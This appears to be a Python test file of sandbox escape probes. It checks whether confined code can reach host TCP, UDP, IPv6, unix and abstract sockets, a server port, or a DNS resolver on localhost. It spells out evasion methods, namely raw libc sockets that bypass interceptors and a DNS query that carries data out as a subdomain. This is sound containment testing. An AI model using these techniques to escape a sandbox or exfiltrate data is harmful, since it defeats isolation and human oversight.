"""
Escape probes: the network and sockets. Host listeners echo what they get, prefixed with "ECHO:",
so a reply is proof the bytes reached the host. Sockets are made through libc (ctypes), except in
tcp-host-stdlib, which goes through Python's socket module (and so through the interceptors).
"""
import ctypes
import struct

from _probe import Blocked, check, fail, libc, main

AF_UNIX, AF_INET, AF_INET6 = 1, 2, 10
SOCK_STREAM, SOCK_DGRAM = 1, 2
SOL_SOCKET, SO_RCVTIMEO = 1, 20
EAGAIN = 11
# Long enough for a loaded machine; a sandboxed socket is refused at once, it does not wait.
REPLY_TIMEOUT_S = 10


def inet(host, port):
    return struct.pack("<H", AF_INET) + struct.pack(">H", port) + bytes(int(x) for x in host.split(".")) + bytes(8)


def inet6_loopback(port):
    return struct.pack("<H", AF_INET6) + struct.pack(">H", port) + bytes(4) + bytes(15) + b"\x01" + bytes(4)


def unix(path):
    raw = path.encode()
    # A path is NUL-terminated. An abstract name (leading NUL) is its bytes and the address's length:
    # Node binds one padded with NULs to the whole sun_path (108 bytes), so it is padded here too.
    return struct.pack("<H", AF_UNIX) + (raw.ljust(108, b"\0") if raw.startswith(b"\0") else raw + b"\0")


def connected(family, kind, addr):
    fd = check(libc.socket(family, kind, 0), "socket")
    tv = struct.pack("<qq", REPLY_TIMEOUT_S, 0)
    libc.setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, tv, len(tv))
    check(libc.connect(fd, addr, len(addr)), "connect")
    return fd


def send(fd, data):
    check(libc.send(fd, data, len(data), 0), "send")


def recv(fd, size=65536):
    buf = ctypes.create_string_buffer(size)
    n = libc.recv(fd, buf, size, 0)
    if n < 0:
        if ctypes.get_errno() == EAGAIN:
            raise Blocked("NO_REPLY", "no reply within %ss" % REPLY_TIMEOUT_S)
        fail("recv")
    return buf.raw[:n]


def echoed(fd, payload, what):
    send(fd, payload)
    reply = recv(fd)
    if reply != b"ECHO:" + payload:
        raise Blocked("WRONG_REPLY", "%s answered %r" % (what, reply[:60]))
    return "%s echoed our bytes" % what


def tcp_host(t):
    return echoed(connected(AF_INET, SOCK_STREAM, inet("127.0.0.1", t["tcpPort"])), t["payload"].encode(), "the host's TCP listener on 127.0.0.1")


def tcp6_host(t):
    return echoed(connected(AF_INET6, SOCK_STREAM, inet6_loopback(t["tcp6Port"])), t["payload"].encode(), "the host's TCP listener on ::1")


def udp_host(t):
    return echoed(connected(AF_INET, SOCK_DGRAM, inet("127.0.0.1", t["udpPort"])), t["payload"].encode(), "the host's UDP listener on 127.0.0.1")


def abstract_unix(t):
    return echoed(connected(AF_UNIX, SOCK_STREAM, unix("\0" + t["abstractName"])), t["payload"].encode(), "the host's abstract unix socket")


def host_unix_socket(t):
    return echoed(connected(AF_UNIX, SOCK_STREAM, unix(t["unixSocket"])), t["payload"].encode(), "the host's unix socket %s" % t["unixSocket"])


def tcp_host_stdlib(t):
    import socket

    with socket.create_connection(("127.0.0.1", t["tcpPort"]), timeout=REPLY_TIMEOUT_S) as s:
        s.sendall(t["payload"].encode())
        reply = s.recv(65536)
    if reply != b"ECHO:" + t["payload"].encode():
        raise Blocked("WRONG_REPLY", "127.0.0.1:%d answered %r" % (t["tcpPort"], reply[:60]))
    return "the host's TCP listener echoed our bytes (socket module)"


def server_port(t):
    """The mcpw server's own port: an HTTP answer (any) means we reached it."""
    fd = connected(AF_INET, SOCK_STREAM, inet("127.0.0.1", t["serverPort"]))
    send(fd, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
    reply = recv(fd)
    if not reply.startswith(b"HTTP/"):
        raise Blocked("WRONG_REPLY", "the server port answered %r" % reply[:60])
    return "the mcpw server answered: %s" % reply.split(b"\r\n")[0].decode(errors="replace")


def dns_exfil(t):
    """Data leaves in a DNS question: a query for <payload>.exfil.test to the host's resolver."""
    qname = b"".join(bytes([len(label)]) + label for label in (t["payload"].encode(), b"exfil", b"test")) + b"\0"
    query = struct.pack(">HHHHHH", 0x4D43, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 1, 1)
    fd = connected(AF_INET, SOCK_DGRAM, inet("127.0.0.1", t["dnsPort"]))
    send(fd, query)
    answer = recv(fd)
    ident, flags, _qd, ancount = struct.unpack(">HHHH", answer[:8])
    if ident != 0x4D43 or ancount < 1:
        raise Blocked("WRONG_REPLY", "DNS answer id %x, %d answers" % (ident, ancount))
    return "the host's DNS server answered our question for %s.exfil.test" % t["payload"]


main(
    {
        "tcp-host": tcp_host,
        "tcp6-host": tcp6_host,
        "udp-host": udp_host,
        "abstract-unix": abstract_unix,
        "host-unix-socket": host_unix_socket,
        "tcp-host-stdlib": tcp_host_stdlib,
        "server-port": server_port,
        "dns-exfil": dns_exfil,
    }
)
